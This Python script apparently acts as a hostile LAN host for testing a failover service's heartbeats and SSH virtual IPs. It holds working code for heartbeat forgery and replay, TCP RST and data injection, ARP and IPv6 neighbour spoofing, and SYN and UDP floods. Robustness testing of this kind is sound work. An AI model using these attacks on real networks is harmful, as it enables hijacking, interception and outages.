#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""A hostile host on the LAN: lan-attack.py INTERFACE PCAP COMMAND [ARG...].

PCAP is what it overheard: the newest packet of each connection and the
heartbeats in it. Frames go to whom --to MAC says, else where the captured went.
Says how many it sent. Addresses, sequence numbers and checksums are right
wherever the attack isn't about them.
"""
import os
import random
import socket
import struct
import sys
import time

VIPS = {socket.inet_aton('10.77.0.100'),
        socket.inet_pton(socket.AF_INET6, 'fd77::100')}


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


class Packet:
    """Ethernet, IPv4 without options or IPv6, TCP or UDP."""

    def __init__(self, frame):
        self.ether = frame[:14]
        self.v6 = frame[12:14] == b'\x86\xdd'
        ip = frame[14:]
        n = 40 if self.v6 else 20
        total = 40 + int.from_bytes(ip[4:6], 'big') if self.v6 else \
            int.from_bytes(ip[2:4], 'big')
        self.ip, rest = ip[:n], ip[n:total]
        self.proto = self.ip[6] if self.v6 else self.ip[9]
        a, b = (8, 24) if self.v6 else (12, 16)
        self.src, self.dst = self.ip[a:b], self.ip[b:b + b - a]
        self.sport, self.dport = struct.unpack('!2H', rest[:4])
        self.rest = rest
        if self.proto == 6:
            self.seq, self.ack = struct.unpack('!2I', rest[4:12])
            head = (rest[12] >> 4) * 4
            self.options, self.payload = rest[20:head], rest[head:]
            self.window = rest[14:16]

    def tcp(self, seq=0, ack=0, flags=0x10, payload=b'', to=None):
        """This connection's next packet, changed."""
        n = len(self.payload) if seq is not None else 0
        head = struct.pack(
            '!2H2I2B', self.sport, self.dport,
            (self.seq + n + (seq or 0)) & 0xffffffff,
            (self.ack + ack) & 0xffffffff,
            (20 + len(self.options)) // 4 << 4, flags) + self.window
        body = self.options + payload
        return self.frame(head, b'\0\0' + body, 16, to)

    def udp(self, payload, to=None):
        head = struct.pack('!3H', self.sport, self.dport, 8 + len(payload))
        return self.frame(head, payload, 6, to, gap=b'')

    def frame(self, head, body, at, to, gap=b''):
        n = len(head) + 2 + len(body)
        pseudo = self.src + self.dst + struct.pack('!I3xB', n, self.proto) \
            if self.v6 else \
            self.src + self.dst + struct.pack('!xBH', self.proto, n)
        sum_ = checksum(pseudo + head + b'\0\0' + body)
        if self.v6:
            ip = self.ip[:4] + struct.pack('!H', n) + self.ip[6:]
        else:
            ip = self.ip[:2] + struct.pack('!H', 20 + n) + self.ip[4:10] + \
                b'\0\0' + self.ip[12:]
            ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
        ether = (to or self.ether[:6]) + self.ether[6:]
        return ether + ip + head + struct.pack('!H', sum_) + body


def read_pcap(path):
    data = open(path, 'rb').read()
    order = '<' if data[:4] in (b'\xd4\xc3\xb2\xa1', b'\x4d\x3c\xb2\xa1') \
        else '>'
    at = 24
    while at + 16 <= len(data):
        n = struct.unpack(order + 'I', data[at + 8:at + 12])[0]
        frame = data[at + 16:at + 16 + n]
        at += 16 + n
        if frame[12:14] in (b'\x08\x00', b'\x86\xdd'):
            p = Packet(frame)
            if p.proto in (6, 17):
                yield p


class Attacker:
    def __init__(self, interface, pcap, to):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.s.bind((interface, 0))
        self.mac = self.s.getsockname()[4]
        self.to = to
        self.sent = 0
        self.beats, self.clients, self.servers = [], {}, {}
        for p in read_pcap(pcap):
            if p.proto == 17 and p.dport == 7475:
                self.beats.append(p)
            elif p.proto == 6 and p.dport == 22 and p.dst in VIPS:
                self.clients[p.src, p.sport] = p
            elif p.proto == 6 and p.sport == 22 and p.src in VIPS:
                self.servers[p.dst, p.dport] = p
        if not self.beats or not self.clients:
            sys.exit('nothing overheard')

    def send(self, frame):
        try:
            self.s.send(frame)
            self.sent += 1
        except OSError:     # longer than the wire takes
            pass

    def replay(self):
        for p in self.beats:
            self.send(p.udp(p.rest[8:], self.to))

    def flip(self):
        """One bit, at each place, in the newest heartbeat of each sender."""
        for p in {p.src: p for p in self.beats}.values():
            b = p.rest[8:]
            for bit in range(len(b) * 8):
                bad = bytearray(b)
                bad[bit // 8] ^= 1 << bit % 8
                self.send(p.udp(bytes(bad), self.to))
                time.sleep(0.0005)      # no flood: each is looked at

    def forge(self):
        """Each state with each flag (grant, release, released among them) and
        a later counter and epoch: what one without the key can say."""
        for p in {p.src: p for p in self.beats}.values():
            b = bytearray(p.rest[8:])
            for state in range(1, 10):
                for flags in range(64):
                    b[6], b[7] = state, flags
                    b[24 + 8:24 + 16] = struct.pack('!Q', flags)    # epoch
                    b[40:48] = struct.pack('!Q', 1 << 40)       # counter
                    b[-16:] = os.urandom(16)
                    self.send(p.udp(bytes(b), self.to))
                    time.sleep(0.0005)

    def flood(self, seconds):
        frames = []
        for p in {p.src: p for p in self.beats}.values():
            for _ in range(64):
                b = bytearray(p.rest[8:])
                b[40:] = os.urandom(len(b) - 40)
                frames.append(p.udp(bytes(b), self.to))
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            for f in frames:
                self.send(f)

    def ack(self, *by):
        """The client ACKs more than it has; BY bytes more."""
        for p in self.clients.values():
            for n in by:
                self.send(p.tcp(ack=int(n), to=self.to))

    def blind(self, count):
        """Whatever one sends who knows the addresses and ports only."""
        for p in list(self.clients.values()) + list(self.servers.values()):
            for _ in range(int(count)):
                self.send(p.tcp(seq=random.getrandbits(32),
                                ack=random.getrandbits(32),
                                payload=os.urandom(100), to=self.to))

    def data(self, length, ahead='0'):
        """Bytes of the client's that it never sent."""
        for p in self.clients.values():
            self.send(p.tcp(seq=int(ahead), payload=os.urandom(int(length)),
                            flags=0x18, to=self.to))

    def stray(self):
        """Bytes at the client's next one, in packets that TCP wouldn't take."""
        for p in self.clients.values():
            for ack, flags in (3 * 10 ** 6, 0x18), (-10 ** 8, 0x18), (0, 0x08):
                self.send(p.tcp(ack=ack, payload=os.urandom(400), flags=flags,
                                to=self.to))

    def reset(self, seconds):
        """The client's RST, and some near it."""
        print('begun', flush=True)
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            for p in self.clients.values():
                for n in (0, 1, 36, 1000):
                    self.send(p.tcp(seq=n, flags=0x14, to=self.to))
            time.sleep(0.005)

    def claim(self, seconds):
        """I have the VIPs: gratuitous ARP, unsolicited advertisement."""
        arp = struct.pack('!HHBBH6s4s6s4s', 1, 0x800, 6, 4, 2, self.mac,
                          socket.inet_aton('10.77.0.100'), b'\xff' * 6,
                          socket.inet_aton('10.77.0.100'))
        vip6 = socket.inet_pton(socket.AF_INET6, 'fd77::100')
        every = socket.inet_pton(socket.AF_INET6, 'ff02::1')
        na = b'\x88\0\0\0\x20\0\0\0' + vip6 + b'\x02\x01' + self.mac
        pseudo = vip6 + every + struct.pack('!I3xB', len(na), 58)
        na = na[:2] + struct.pack('!H', checksum(pseudo + na)) + na[4:]
        na = struct.pack('!IHBB', 6 << 28, len(na), 58, 255) + vip6 + \
            every + na
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            self.send(self.to + self.mac + b'\x08\x06' + arp)
            self.send(self.to + self.mac + b'\x86\xdd' + na)
            time.sleep(0.01)

    def syn(self, seconds):
        """SYNs from addresses that aren't there."""
        p = next(p for p in self.clients.values() if not p.v6)
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            for _ in range(64):
                p.src = bytes((10, 77, 0, random.randrange(5, 100)))
                p.ip = p.ip[:12] + p.src + p.ip[16:]
                p.sport = random.randrange(1024, 65536)
                self.send(p.tcp(seq=random.getrandbits(32), flags=0x02,
                                to=self.to))
            time.sleep(0.002)

    def malformed(self, count):
        """Packets of the connections with bytes changed and ends cut off."""
        whole = [p.tcp(payload=os.urandom(200), to=self.to)
                 for p in list(self.clients.values()) +
                 list(self.servers.values())]
        whole += [p.udp(p.rest[8:], self.to) for p in self.beats[-4:]]
        for _ in range(int(count)):
            f = bytearray(random.choice(whole))
            for _ in range(random.randrange(1, 6)):
                f[random.randrange(12, min(len(f), 90))] = random.getrandbits(8)
            self.send(bytes(f[:random.randrange(14, len(f) + 1)]))


def main():
    args = sys.argv[1:]
    to = None
    if args[0] == '--to':
        to = bytes.fromhex(args[1].replace(':', ''))
        args = args[2:]
    a = Attacker(args[0], args[1], to)
    getattr(a, args[2])(*args[3:])
    print(a.sent)


main()
